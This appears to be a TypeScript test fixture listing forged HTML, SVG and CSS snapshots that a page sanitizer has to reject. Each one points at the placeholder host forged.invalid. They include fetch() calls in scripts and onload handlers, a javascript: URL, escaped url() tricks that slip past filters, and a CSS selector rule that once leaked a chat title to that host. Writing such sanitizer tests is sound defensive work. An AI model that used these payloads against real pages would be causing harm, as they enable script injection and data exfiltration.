// Forged start-up pictures, as any script of the page's origin could write them into storage:
// the cleaner's Jest tests and e2e/forged-picture.spec.ts show that none is painted, loads or
// runs anything, moves the page or styles the live app.

/** An address nothing may ever reach. */
export const FORGED = 'http://forged.invalid';

/** Markup a picture must never hold: each one alone means no picture at all. */
export const FORGED_MARKUP: [string, string][] = [
  ['a meta refresh', `<meta http-equiv="refresh" content="0;url=${FORGED}/refresh">`],
  ['a style sheet link', `<link rel="stylesheet" href="${FORGED}/x.css">`],
  ['a base address', `<base href="${FORGED}/">`],
  ['a style element', `<style>body{background:url(${FORGED}/style.png)}</style>`],
  ['a script', `<script>fetch('${FORGED}/script')</script>`],
  ['an inline style', `<p style="background:url(${FORGED}/inline.png)">x</p>`],
  ['an inline style with escapes', `<p style="background:u\\72 l(${FORGED}/escaped.png)">x</p>`],
  [
    'an escape that takes only the CR of a CRLF',
    `<p style="background:\\75\r\nrl(${FORGED}/crlf.png)">x</p>`,
  ],
  [
    'a url() hidden in a comment inside strings',
    `<p style='content:"/*";background:url(${FORGED}/comment.png);content:"*/"'>x</p>`,
  ],
  ['an SVG paint url()', `<svg><path fill="url(${FORGED}/paint.svg#p)" d="M0 0h1"></path></svg>`],
  [
    'an SVG paint with entities',
    `<svg><path fill="u&#x72;l(${FORGED}/entity.svg#p)" d="M0 0h1"></path></svg>`,
  ],
  ['an SVG paint escape', `<svg><path fill="\\75 rl(${FORGED}/esc.svg#p)"></path></svg>`],
  ['an SVG style', `<svg><path style="fill:url(${FORGED}/svgstyle.svg#p)"></path></svg>`],
  ['an SVG use', `<svg><use href="${FORGED}/use.svg#a"></use></svg>`],
  ['an SVG image', `<svg><image href="${FORGED}/image.png"></image></svg>`],
  [
    'an SVG animation of an address',
    `<svg><a><animate attributeName="href" to="${FORGED}"/></a></svg>`,
  ],
  ['an SVG foreign object', '<svg><foreignObject><p>x</p></foreignObject></svg>'],
  ['an image from elsewhere', `<img src="${FORGED}/image.png" alt="">`],
  ['an image with a source set', `<img src="/favicon.svg" srcset="${FORGED}/set.png 2x" alt="">`],
  ['an image with a handler', `<img src="/favicon.svg" onload="fetch('${FORGED}/handler')">`],
  ['a javascript: image', '<img src="javascript:alert(1)">'],
  ['a link', `<a href="${FORGED}/link">tap</a>`],
  ['a link marked as the typed field', `<a href="${FORGED}/typed" data-picture-typed="">tap</a>`],
  ['a form', `<form action="${FORGED}/form"><button>go</button></form>`],
  ['a button that sends elsewhere', `<button formaction="${FORGED}/button">go</button>`],
  ['an image button', `<input type="image" src="${FORGED}/input.png">`],
  ['a frame', `<iframe src="${FORGED}/frame"></iframe>`],
  ['an object', `<object data="${FORGED}/object"></object>`],
  ['an embed', `<embed src="${FORGED}/embed">`],
  ['a video poster', `<video poster="${FORGED}/poster.png"></video>`],
  ['a template', `<template><img src="${FORGED}/template.png"></template>`],
  ['a noscript', `<noscript><img src="${FORGED}/noscript.png"></noscript>`],
  ['MathML', '<math><mi>x</mi></math>'],
  ['an id the live page uses', '<div id="root"></div>'],
  ['a reference to a live element', '<p aria-labelledby="root">x</p>'],
  ['a field that takes the focus', '<textarea data-picture-typed="" autofocus></textarea>'],
  ['a class with CSS in it', '<p class="a{}b">x</p>'],
  ['a comment', '<!-- x --><p>x</p>'],
];

/**
 * What earlier pictures stored beside their markup: rules the page once applied. A stored picture
 * is markup only now, and these are never read. The last leaked a chat's title by address.
 */
export const FORGED_STYLES = {
  css: `a{content:"/*"}body{background:url(${FORGED}/comment.png)}b{content:"*/"}`,
  styles:
    `/*x*/:not(.css-x)[aria-label^="Delete chat Top"]{background-image:url(${FORGED}/title.png)}` +
    `body{background:\\75\r\nrl(${FORGED}/crlf.png)}`,
};
